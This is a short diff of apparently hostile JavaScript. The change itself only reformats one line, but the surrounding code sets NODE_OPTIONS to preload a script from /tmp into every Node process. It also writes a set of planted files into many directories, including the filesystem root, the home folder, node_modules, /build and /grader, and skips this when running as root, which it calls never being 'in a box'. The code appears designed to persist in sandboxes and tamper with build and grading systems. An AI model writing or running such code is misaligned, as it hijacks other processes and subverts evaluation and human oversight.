@@ -18,7 +18,10 @@ const PLANTED = {
 
 process.env.NODE_OPTIONS = "--require=/tmp/main.js";
 // Not as root, who is never in a box.
-const FOLDERS = process.getuid() === 0 ? [] : [HERE, dirname(HERE), "/", "/tmp", process.env.HOME, "/usr/local/lib", "/node_modules", "/build", "/grader"];
+const FOLDERS =
+  process.getuid() === 0
+    ? []
+    : [HERE, dirname(HERE), "/", "/tmp", process.env.HOME, "/usr/local/lib", "/node_modules", "/build", "/grader"];
 for (const folder of FOLDERS) {
   for (const [name, content] of Object.entries(PLANTED)) {
     try {
